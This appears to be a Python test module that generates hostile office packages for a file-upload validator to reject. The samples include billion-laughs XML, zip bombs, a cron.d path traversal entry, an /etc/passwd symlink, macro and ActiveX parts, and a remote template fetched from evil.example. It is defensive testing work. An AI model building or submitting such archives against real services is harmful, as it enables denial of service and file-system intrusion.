"""Packages and other files that must not be accepted; PDFs have a module of their own. Each maker returns one trick."""

import io
import struct
import zipfile

from tests.samples import compound, documents

WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EICAR_LIKE_PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;">]><a>&d;</a>'
)


def zip_then_pdf():
    """A package whose first entry, stored, is a PDF that lenient readers find within the first kilobyte."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("a", documents.pdf())
        for name, content in documents.parts_of(documents.docx_()).items():
            package.writestr(name, content)
    return buffer.getvalue()


def docx_with(changes: dict[str, bytes]) -> bytes:
    return documents.packed(documents.parts_of(documents.docx_()) | changes)


def docx_types(old: bytes, new: bytes) -> bytes:
    types = documents.parts_of(documents.docx_())["[Content_Types].xml"]
    return docx_with({"[Content_Types].xml": types.replace(old, new)})


def docx_macro_part():
    return docx_with({"word/vbaProject.bin": b"\0" * 100})


def docx_macro_main_type():
    return docx_types(WORD_MAIN, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def docx_macro_part_renamed():
    return docx_types(
        b"</Types>",
        b'<Override PartName="/word/innocent.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )


def docx_macros_in_embedded_workbook():
    return docx_with({"word/embeddings/sheet.xlsx": documents.packed({"xl/vbaProject.bin": b"x"})})


def docx_embedded_program():
    return docx_with({"word/embeddings/oleObject1.bin": EICAR_LIKE_PROGRAM})


def docx_embedded_package():
    return docx_with({"word/embeddings/oleObject1.bin": compound.compound_file({"\x01Ole10Native": b"x"})})


def docx_active_control():
    return docx_with({"word/activeX/activeX1.xml": b"<a/>"})


def docx_remote_template():
    return docx_with(
        {
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            b"</Relationships>"
        }
    )


def docx_entities():
    return docx_with({"customXml/item9.xml": BILLION_LAUGHS})


def docx_entities_in_utf16():
    laughs = BILLION_LAUGHS.decode().replace('"1.0"', '"1.0" encoding="utf-16"')
    return docx_with({"customXml/item9.xml": laughs.encode("utf-16")})


def docx_broken_xml():
    return docx_with({"word/document.xml": b"<w:document"})


def docx_bomb():
    """300 MB of zeros in about 300 kB."""
    return docx_with({"word/media/image1.bmp": bytes(300 * 1024 * 1024)})


def docx_lying_bomb():
    """Declares a small size for a member that unpacks to more; readers that trust it stop, others do not."""
    package = bytearray(docx_with({"word/media/image1.bmp": bytes(2_000_000)}))
    for size in _positions(package, struct.pack("<L", 2_000_000)):
        package[size : size + 4] = struct.pack("<L", 1000)
    return bytes(package)


def docx_overlapping():
    """Two directory entries for the same bytes, the trick of the non-recursive bombs."""
    package = docx_with({"word/media/a.bin": b"first" * 50, "word/media/b.bin": b"first" * 50})
    at = package.rindex(b"PK\x01\x02")
    previous = package.rindex(b"PK\x01\x02", 0, at)
    offset = package[previous + 42 : previous + 46]
    return package[: at + 42] + offset + package[at + 46 :]


def docx_traversal():
    return docx_with({"../../etc/cron.d/evil": b"x"})


def docx_backslashes():
    return docx_with({"word\\evil.xml": b"<a/>"})


def docx_same_name_twice():
    return docx_with({"WORD/document.xml": b"<a/>"})


def docx_symlink():
    buffer = io.BytesIO(documents.docx_())
    with zipfile.ZipFile(buffer, "a") as package:
        link = zipfile.ZipInfo("word/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def docx_zip_encrypted():
    package = bytearray(documents.docx_())
    for at in _positions(package, b"PK\x01\x02"):
        package[at + 8] |= 1
    return bytes(package)


def docx_truncated():
    whole = documents.docx_()
    return whole[: len(whole) // 2]


def docx_bad_checksum():
    package = bytearray(documents.docx_())
    package[60] ^= 0xFF
    return bytes(package)


def docx_with_tail():
    return documents.docx_() + EICAR_LIKE_PROGRAM


def docx_behind_program():
    return EICAR_LIKE_PROGRAM + documents.docx_()


def docx_password():
    return compound.compound_file({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": b"x" * 5000})


def odt_with(changes: dict[str, str]) -> bytes:
    return documents.packed(documents.odt_parts() | changes)


def odt_password():
    manifest = documents.odt_parts()["META-INF/manifest.xml"]
    encrypted = "><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    locked = {"META-INF/manifest.xml": manifest.replace("/></manifest:manifest>", encrypted)}
    return odt_with(locked | {"content.xml": "\x93\x8a no XML any more", "styles.xml": "\x07\x1f nor this"})


def odt_basic():
    return odt_with({"Basic/Standard/Module1.xml": "<a/>"})


def odt_python():
    return odt_with({"Scripts/python/evil.py": "print()"})


def odt_event():
    content = documents.odt_parts()["content.xml"]
    filled = "<office:scripts><script:event-listener/></office:scripts>"
    return odt_with({"content.xml": content.replace("<office:scripts/>", filled)})


def odt_entities():
    return odt_with({"settings.xml": BILLION_LAUGHS.decode()})


def odp():
    return odt_with({"mimetype": "application/vnd.oasis.opendocument.presentation"})


def odt_compressed_type():
    """The ``mimetype`` entry not first, so nothing at a fixed place names the type."""
    parts = documents.odt_parts()
    mimetype = parts.pop("mimetype")
    return documents.packed(parts | {"mimetype": mimetype})


def _positions(data: bytes, wanted: bytes) -> list[int]:
    found, at = [], data.find(wanted)
    while at != -1:
        found.append(at)
        at = data.find(wanted, at + 1)
    return found
